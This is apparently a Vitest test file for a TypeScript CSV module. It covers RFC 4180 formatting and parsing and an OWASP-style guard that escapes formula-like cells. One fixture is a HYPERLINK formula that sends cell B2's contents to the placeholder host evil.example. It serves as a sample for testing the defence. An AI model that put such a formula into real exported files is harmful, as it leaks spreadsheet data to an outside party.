import { describe, expect, it } from 'vitest';
import { CsvSyntaxError, formatCsv, formatCsvField, neutraliseFormula, parseCsv, restoreFormula } from './csv.ts';

describe('formatCsv (RFC 4180)', () => {
  it('quotes only fields with a comma, a quote or a line break, doubling quotes', () => {
    expect(formatCsvField('plain')).toBe('plain');
    expect(formatCsvField('a,b')).toBe('"a,b"');
    expect(formatCsvField('say "hi"')).toBe('"say ""hi"""');
    expect(formatCsvField('two\nlines')).toBe('"two\nlines"');
    expect(formatCsvField('')).toBe('');
  });

  it('ends every record with CRLF', () => {
    expect(
      formatCsv([
        ['name', 'note'],
        ['Acme', 'FHA, VA'],
      ]),
    ).toBe('name,note\r\nAcme,"FHA, VA"\r\n');
  });
});

describe('parseCsv (RFC 4180)', () => {
  it('reads quoted fields with commas, doubled quotes and line breaks, and says where each record starts', () => {
    const text = 'a,b,c\r\n"x, y","say ""hi""","two\r\nlines"\r\nlast,,\r\n';
    expect(parseCsv(text)).toEqual([
      { line: 1, fields: ['a', 'b', 'c'] },
      { line: 2, fields: ['x, y', 'say "hi"', 'two\r\nlines'] },
      { line: 4, fields: ['last', '', ''] },
    ]);
  });

  it('accepts LF line ends, no final line break, a byte-order mark, and skips blank lines', () => {
    expect(parseCsv('\uFEFFh1,h2\n\n1,2')).toEqual([
      { line: 1, fields: ['h1', 'h2'] },
      { line: 3, fields: ['1', '2'] },
    ]);
  });

  it('keeps an empty quoted field as a field', () => {
    expect(parseCsv('""\n')).toEqual([{ line: 1, fields: [''] }]);
    expect(parseCsv('a,""')).toEqual([{ line: 1, fields: ['a', ''] }]);
  });

  it.each([
    ['a"b,c', 'Line 1: a double quote inside an unquoted field'],
    ['"ab"c,d', 'Line 1: text after a closing double quote'],
    ['ok\n"open,field', 'Line 2: a quoted field is not closed'],
  ])('refuses %j: %s', (text, message) => {
    expect(() => parseCsv(text)).toThrow(CsvSyntaxError);
    expect(() => parseCsv(text)).toThrow(message);
  });

  it('reads back what formatCsv wrote', () => {
    const records = [
      ['name', 'description'],
      ['Quote "Co"', 'line one\nline two, with comma'],
      ['', ' spaced '],
    ];
    expect(parseCsv(formatCsv(records)).map((record) => record.fields)).toEqual(records);
  });
});

describe('formula guard (OWASP CSV injection)', () => {
  const formula = '=HYPERLINK("https://evil.example/?d="&B2,"Click me")';

  it("writes a cell that starts with =, +, -, @, tab or CR behind a ' so a spreadsheet shows it as text", () => {
    expect(formatCsvField(formula)).toBe('"\'=HYPERLINK(""https://evil.example/?d=""&B2,""Click me"")"');
    expect(['=1+2', '+1 555 0100', '-2+3', '@SUM(A1)', '\t=1', '\r=1'].map(neutraliseFormula)).toEqual([
      "'=1+2",
      "'+1 555 0100",
      "'-2+3",
      "'@SUM(A1)",
      "'\t=1",
      "'\r=1",
    ]);
    expect(formatCsv([['name'], ['=1+2']])).toBe("name\r\n'=1+2\r\n");
  });

  it('leaves every other cell as it is', () => {
    for (const value of ['Acme', '', ' =spaced', "'quoted", "it's", 'a=b', '1-2', 'x@y.com', '4.5'])
      expect(neutraliseFormula(value)).toBe(value);
  });

  it("reads a guarded cell back to the original text, and adds one more ' to a text that already looked guarded", () => {
    expect(restoreFormula("'=1+2")).toBe('=1+2');
    expect(restoreFormula("'quoted")).toBe("'quoted");
    expect(neutraliseFormula("'=1")).toBe("''=1");
    expect(restoreFormula("''=1")).toBe("'=1");
  });

  it('round trip is exact for formula-like, apostrophe and ordinary texts', () => {
    const texts = [formula, '+1 555 0100', '-5', '@handle', '\tTabbed', '\rCR first', "'=already", "''+twice", "'plain", 'plain', '=', "'"];
    const records = [['value'], ...texts.map((text) => [text])];
    expect(parseCsv(formatCsv(records)).map((record) => record.fields)).toEqual(records);
  });
});
